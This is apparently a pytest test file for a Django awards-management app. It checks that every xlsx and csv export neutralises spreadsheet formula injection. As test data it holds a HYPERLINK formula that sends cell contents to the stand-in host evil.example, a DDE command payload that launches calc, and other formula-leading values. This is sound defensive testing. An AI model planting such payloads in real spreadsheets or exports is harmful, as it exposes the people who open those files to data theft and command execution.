"""Every .xlsx and .csv export writes text as text: a value planted as `=HYPERLINK(...)` (or starting with +, -, @)
comes back from the produced file as the same text, never as a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from python_calamine import CalamineWorkbook

from thidua.eligibility import exports as eligibility_exports
from thidua.lib.exports import csv_cell

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def formulas(content: bytes) -> list[str]:
    """The formulas (<f> elements) of every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        xml = "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))
    return re.findall(r"<f>(.*?)</f>", xml)


def texts(content: bytes) -> set:
    wb = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {v for name in wb.sheet_names for row in wb.get_sheet_by_name(name).to_python() for v in row}


def assert_text_not_formula(content: bytes, planted: str = EVIL) -> None:
    assert not [f for f in formulas(content) if "HYPERLINK" in f]
    assert planted in texts(content)  # read back as the very text that was written


def test_eligibility_xlsx_and_csv():
    line = ["P1", EVIL, "CSTĐCS", 2018, "Đủ", 0, "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    assert_text_not_formula(eligibility_exports.rows_to_xlsx([line]))
    rows = list(csv.reader(io.StringIO(eligibility_exports.rows_to_csv([line]))))
    assert rows[1][:2] == ["P1", "'" + EVIL] and rows[1][6:] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)"]
    assert rows[1][3] == "2018"  # numbers untouched


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Nguyễn Văn A", "Nguyễn Văn A"), ("a=b", "a=b"), (-1, -1), (None, None),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.integration
def test_cluster_targets_workbook(council_member, cluster_year_2018):
    indicator = cluster_year_2018.indicators.filter(targets__isnull=False).first()
    indicator.name = EVIL
    indicator.save(update_fields=["name"])
    response = council_member.get(f"/cum/{cluster_year_2018.pk}/van-ban/chi-tieu.xlsx")
    assert response.status_code == 200
    assert_text_not_formula(response.content)


@pytest.mark.integration
def test_cluster_scores_workbook(province_officer, cluster_year_2018):
    criterion = cluster_year_2018.criteria.filter(children__isnull=True).first()
    criterion.name = EVIL
    criterion.save(update_fields=["name"])
    response = province_officer.get(f"/cum/{cluster_year_2018.pk}/van-ban/cham-diem.xlsx")
    assert response.status_code == 200
    assert_text_not_formula(response.content)


@pytest.mark.integration
def test_statistical_form_workbook(province_officer):
    from thidua.orgs.models import Organization

    cao_bang = Organization.objects.get(user_roles__user__username="caobang")
    response = province_officer.get("/khen-thuong/bieu-thong-ke/export.xlsx",
                                    {"form": "0602", "org": cao_bang.pk, "year": 2018, "place": "-" + EVIL})
    assert response.status_code == 200
    assert not [f for f in formulas(response.content) if "HYPERLINK" in f]
    assert any(isinstance(t, str) and EVIL in t for t in texts(response.content))


@pytest.mark.integration
def test_award_registry_workbook(province_officer, cluster_year_2018):
    from thidua.awards.models import Award

    award = Award.objects.filter(year=2018, province__name="Cao Bằng").first()
    Award.objects.filter(pk=award.pk).update(recipient_name=EVIL)
    response = province_officer.get("/khen-thuong/export.xlsx", {"year": 2018})
    assert response.status_code == 200
    assert_text_not_formula(response.content)


@pytest.mark.integration
def test_audit_log_workbook(central_board):
    from thidua.core import audit

    audit.record("create", object_type="test.evil", object_id="1", object_repr=EVIL, user=None)
    response = central_board.get("/nhat-ky/export.xlsx", {"object_type": "test.evil"})
    assert response.status_code == 200
    assert_text_not_formula(response.content)


def test_every_workbook_writer_uses_the_safe_workbook():
    """A new exporter must create its workbook with core.exports.workbook (text as text)."""
    from pathlib import Path

    import thidua

    root = Path(thidua.__file__).parent
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "exports.py" or p.parent.name != "lib"
                 if re.search(r"xlsxwriter\.Workbook\(|csv\.writer\(", p.read_text())]
    assert offenders == ["eligibility/exports.py"]  # its csv.writer rows go through csv_row (tested above)
